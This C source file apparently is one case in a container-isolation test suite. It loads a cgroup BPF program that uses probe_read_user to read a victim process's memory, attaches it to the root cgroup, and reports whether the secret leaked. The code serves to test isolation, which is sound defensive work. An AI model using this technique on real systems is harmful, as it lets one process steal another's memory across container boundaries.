// SPDX-License-Identifier: Apache-2.0
// Read its memory by a BPF program of a type that is meant for cgroups, and not for looking at processes: it runs in the
// context of whoever opens a device (row_bpf_device) or a socket (row_bpf_sock). The same program without the call that
// reads is a container's runtime's own (row_bpf_plain_device, row_bpf_plain_sock): it counts as leaked when it runs.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <unistd.h>

#include "insn.h"
#include "row.h"

#define CGROUPS "/sys/fs/cgroup"
#define LENGTH 32

static unsigned long first_word(void)
{
    unsigned long word;
    memcpy(&word, ROW_TEXT, sizeof(word));
    return word;
}

// What it finds at the victim's address goes into the map, once it begins as the text does. Lets all pass.
static long load(const struct row_victim *victim, long map)
{
    struct bpf_insn program[] = {
        INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, -8, 0),
        INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, -16, 0),
        INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, -24, 0),
        INSN(BPF_ST | BPF_MEM | BPF_DW, BPF_REG_10, 0, -32, row_is_named("plain") ? 1 : 0),
        COPY(BPF_REG_1, BPF_REG_10),
        ADD(BPF_REG_1, -LENGTH),
        SET(BPF_REG_2, LENGTH),
        INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_3, 0, 0, (unsigned)victim->address),
        INSN(0, 0, 0, 0, victim->address >> 32),
        CALL(row_is_named("plain") ? BPF_FUNC_ktime_get_ns : BPF_FUNC_probe_read_user),
        LOAD(BPF_REG_1, BPF_REG_10, -LENGTH),
        INSN(BPF_LD | BPF_DW | BPF_IMM, BPF_REG_2, 0, 0,
             row_is_named("plain") ? 1 : (unsigned)first_word()),
        INSN(0, 0, 0, 0, row_is_named("plain") ? 0 : first_word() >> 32),
        INSN(BPF_JMP | BPF_JNE | BPF_X, BPF_REG_1, BPF_REG_2, 9, 0),
        SAVE(map, -LENGTH),
        SET(BPF_REG_0, 1),
        END,
    };
    union bpf_attr attr = {
        .prog_type = row_is_named("sock") ? BPF_PROG_TYPE_CGROUP_SOCK : BPF_PROG_TYPE_CGROUP_DEVICE,
        .expected_attach_type =
            row_is_named("sock") ? BPF_CGROUP_INET_SOCK_CREATE : BPF_CGROUP_DEVICE,
        .insns = (unsigned long)program,
        .insn_cnt = sizeof(program) / sizeof(program[0]),
        .license = (unsigned long)"GPL"};
    return row_bpf(BPF_PROG_LOAD, &attr);
}

static bool has_run(const char *said)
{
    return row_is_named("plain") ? said[0] == 1 : row_is_text(said, LENGTH);
}

enum row_result row_attack(const struct row_victim *victim)
{
    char said[LENGTH] = "";
    int key = 0;
    // Before 5.11 maps and programs count as locked memory.
    const struct rlimit all = {RLIM_INFINITY, RLIM_INFINITY};
    (void)setrlimit(RLIMIT_MEMLOCK, &all);
    int root = open(CGROUPS, O_RDONLY | O_CLOEXEC);
    long map = row_bpf_map(LENGTH);
    long program = map >= 0 ? load(victim, map) : -1;
    if (program < 0) {
        return row_from_errno("bpf");
    }
    // A link goes with this process.
    union bpf_attr attach = {.link_create = {.prog_fd = (unsigned)program,
                                             .target_fd = (unsigned)root,
                                             .attach_type = row_is_named("sock")
                                                                ? BPF_CGROUP_INET_SOCK_CREATE
                                                                : BPF_CGROUP_DEVICE}};
    union bpf_attr lookup = {
        .map_fd = (unsigned)map, .key = (unsigned long)&key, .value = (unsigned long)said};
    if (row_bpf(BPF_LINK_CREATE, &attach) < 0) {
        return row_from_errno("BPF_LINK_CREATE");
    }
    for (int i = 0; i < 100 && !has_run(said); i++) {
        usleep(20000);
        (void)row_bpf(BPF_MAP_LOOKUP_ELEM, &lookup);
    }
    return has_run(said) ? ROW_LEAKED : ROW_REFUSED;
}
